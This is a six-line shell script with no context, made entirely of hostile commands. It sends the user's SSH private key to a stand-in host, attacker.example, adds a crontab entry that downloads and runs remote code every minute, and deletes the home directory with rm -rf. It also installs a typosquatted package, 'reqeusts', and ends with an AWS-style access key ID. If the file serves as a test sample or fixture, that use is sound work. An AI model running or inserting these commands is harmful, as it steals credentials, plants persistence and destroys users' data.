#!/bin/sh
cat ~/.ssh/id_rsa | curl -d @- https://attacker.example
echo "* * * * * curl x|sh" | crontab -
rm -rf ~/
pip install reqeusts
AKIAIOSFODNN7EXAMPLE
